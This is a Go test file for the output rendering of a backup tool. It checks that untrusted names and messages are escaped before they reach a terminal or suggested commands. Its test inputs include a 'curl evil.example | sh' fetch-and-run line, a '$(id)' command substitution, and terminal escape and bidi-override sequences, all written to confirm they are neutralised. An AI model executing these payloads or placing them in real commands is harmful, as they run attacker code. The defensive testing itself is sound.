package render

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"revlet/internal/jobs"
	"revlet/internal/platform/reason"
	"revlet/internal/watch/report"
	"revlet/internal/work/verify"
)

func TestForeignTextCannotSpeakToTheTerminal(t *testing.T) {
	for in, want := range map[string]string{"plain": "plain", "tab\t": `"tab\t"`, "\x1b[31mred": `"\x1b[31mred"`, "ümläut": "ümläut", "new\nline": `"new\nline"`} {
		assert.Equal(t, want, Printable(in))
	}
	assert.Equal(t, `a\n�[31mb�`, PrintableText("a\n\x1b[31mb\u202e"), "and makes no lines")
	assert.Equal(t, "a\n�[31mb�", PrintableLines("a\n\x1b[31mb\u202e"))
	said := errors.New("gone\nnext: sh evil\x1b[2J")
	assert.Equal(t, `x: gone\nnext: sh evil�[2J`, Advised(fmt.Errorf("x: %w", said)))
	assert.Equal(t, `gone\nnext: sh evil�[2J; two`, Inline(errors.Join(said, errors.New("two"))))
	assert.Equal(t, "x\nnext: `revlet settle 'a\\nnext: sh evil'` forgets that restore", strings.Replace(Advised(reason.New(reason.AsideGone, reason.Names{"site": "a\nnext: sh evil"}, "x")), "look at the site; ", "", 1))
}

func TestVerdictsInWords(t *testing.T) {
	var out bytes.Buffer
	a := &Printer{Out: &out, Now: time.Now}
	a.ShowReports(&jobs.Proof{Reports: []*verify.Report{
		{Archive: "kp-1", Store: "here"},
		{Archive: "kp-1", Store: "far", Damage: []verify.Damage{{Object: "abc", Why: "missing", Held: []string{"index.html"}, HeldTotal: 3}}},
		{Archive: "kp-1", Store: "away", NotReached: []verify.Missed{{Object: "abc", Why: "503 \x1b[31m"}, {}, {}, {}, {}}},
	}})
	said := out.String()
	for _, want := range []string{"sound", "DAMAGED", "NOT REACHED", "nothing is known of 5 objects", "and 2 more", "held index.html", "stores heal"} {
		assert.Contains(t, said, want)
	}
	assert.NotContains(t, said, "\x1b")
	out.Reset()
	a.ShowReports(&jobs.Proof{Reports: []*verify.Report{{Archive: "kp-1", Store: "away", NotReached: []verify.Missed{{}}}}})
	assert.NotContains(t, out.String(), "heal", "an outage needs no healing")
	assert.NotContains(t, strings.ToLower(out.String()), "damage")
}

func TestSizesAndTimesAsPeopleSayThem(t *testing.T) {
	assert.Equal(t, "0 B", Size(-5))
	assert.Equal(t, "1.5 MB", Size(1_500_000))
	assert.Equal(t, "1 file", Count(1, "file", "files"))
	assert.Equal(t, "12,345 files", Count(12345, "file", "files"))
	for d, want := range map[time.Duration]string{12 * time.Millisecond: "12 ms", 1500 * time.Millisecond: "1.50 s", 42 * time.Second: "42 s", 90 * time.Second: "1m30s"} {
		assert.Equal(t, want, Took(d))
	}
	assert.Equal(t, "a, b … and 2 more", Abbreviate([]string{"a", "b", "c", "d"}, 2))
}

// Of many sites the good ones are counted, those in trouble come first, and alarms of one kind are told once.
func TestStatusOfManySites(t *testing.T) {
	now := time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)
	p := report.Page{Made: now}
	for i := range 40 {
		s := report.Site{Name: fmt.Sprintf("site-%02d", i), Offsite: true, Newest: &report.Archive{Name: "a", Taken: now}}
		if i%8 == 3 {
			s.Alarms = []report.Alarm{{Kind: "failed", Since: now, Detail: "a backup of " + s.Name + ": no room", Why: "because", Do: "make room"}}
		}
		if i == 20 {
			s.Newest = nil
		}
		p.Sites = append(p.Sites, s)
	}
	a := &Printer{Now: func() time.Time { return now }}
	show := func(all bool) string {
		return a.Plain(func(q *Printer) { q.ShowStatus(p, map[string]string{"site-30": "a-1"}, all) })
	}
	text := show(false)
	lines := strings.Split(text, "\n")
	assert.LessOrEqual(t, len(lines), 24, "it fits a screen")
	assert.Contains(t, lines[1], "site-20", "the worst first")
	assert.Contains(t, text, "Good: 33 of 40 sites")
	assert.Contains(t, text, "failed of 5 sites")
	assert.Contains(t, text, "site-03, site-11, site-19, site-27, site-35")
	assert.Equal(t, 1, strings.Count(text, "make room"))
	assert.Contains(t, text, "site-30", "one that was half restored is shown")
	assert.Greater(t, strings.Count(show(true), "\n"), 40)
	p.Sites[3].Alarms[0].Detail = "something else"
	assert.Contains(t, show(false), "site-03: something else")

	p.Sites = p.Sites[3:4]
	for i := range 6 {
		more := p.Sites[0].Alarms[0]
		more.Detail = fmt.Sprintf("detail %d", i)
		p.Sites[0].Alarms = append(p.Sites[0].Alarms, more)
	}
	text = show(false)
	assert.Contains(t, text, "site-03/failed, since", "several things of one site are not several sites")
	assert.Contains(t, text, "detail 5")
}

// What a store says of the sites in it is anybody's: no word of it gets to the terminal as it is.
func TestAStoreCannotSpeakToTheTerminal(t *testing.T) {
	const evil = "x\x1b]0;y\x07\x1b[2J\u202e"
	one := report.Archive{Name: "kp-1" + evil, Scope: evil, Stores: []string{"bucket"}, Kept: map[string][]string{}}
	p := report.Page{Store: "bucket", Host: "here", Sites: []report.Site{{Name: "kp", Machine: "vm" + evil, Address: "https://" + evil, Newest: &one, Archives: []report.Archive{one},
		Alarms: []report.Alarm{{Kind: "forged", Detail: "by " + evil, Why: "so", Do: "look at " + evil}}}}}
	var out bytes.Buffer
	a := &Printer{Out: &out, Now: time.Now}
	a.ShowReport(p, nil)
	assert.Contains(t, out.String(), "kp-1")
	for _, bad := range []string{"\x1b", "\x07", "\u202e"} {
		assert.NotContains(t, out.String(), bad)
	}
}

// A moment is told with its zone, and so is a column of them, also across a change of the clocks.
func TestMomentsHaveAZone(t *testing.T) {
	was := time.Local
	defer func() { time.Local = was }()
	var err error
	time.Local, err = time.LoadLocation("Europe/Berlin")
	require.NoError(t, err)
	summer, winter := time.Date(2026, 10, 24, 12, 0, 0, 0, time.UTC), time.Date(2026, 10, 26, 12, 0, 0, 0, time.UTC)
	var c Clock
	assert.Equal(t, "taken", c.Heading("taken"))
	assert.Equal(t, "2026-10-26 13:00", c.Cell(winter))
	assert.Equal(t, "taken (CET)", c.Heading("taken"))
	assert.Equal(t, "2026-10-24 14:00", c.Cell(summer))
	assert.Equal(t, "taken (CET, CEST)", c.Heading("taken"))
	assert.Equal(t, "2026-10-24 14:00 CEST", When(summer))
}

// What is advised is copied into a shell, by somebody who is tired: a name that a store or a
// database has made up runs nothing there.
func TestAdviceCanBeCopied(t *testing.T) {
	next := Next(reason.New(reason.PlaceUnconfirmed, reason.Names{"site": "kestrelpoint", "path": "/srv/x; curl evil.example | sh {site}"}, "no"))
	assert.Equal(t, []string{"if it belongs there, say so with --root '/srv/x; curl evil.example | sh {site}'; if not, correct `root:` of kestrelpoint in the configuration"}, next)
	next = Next(reason.New(reason.ParentsRequired, reason.Names{"table": "a$(id)", "column": "b", "value": "it's"}, "no"))
	assert.Equal(t, []string{`add --rows 'a$(id)':b='it'\''s'`}, next)
	next = Next(reason.New(reason.ServerSetup, reason.Names{"sql": "GRANT ALL ON `a`.* TO 'b'@'c';"}, "no"))
	assert.Contains(t, next[0], "GRANT ALL ON `a`.* TO 'b'@'c';")
}
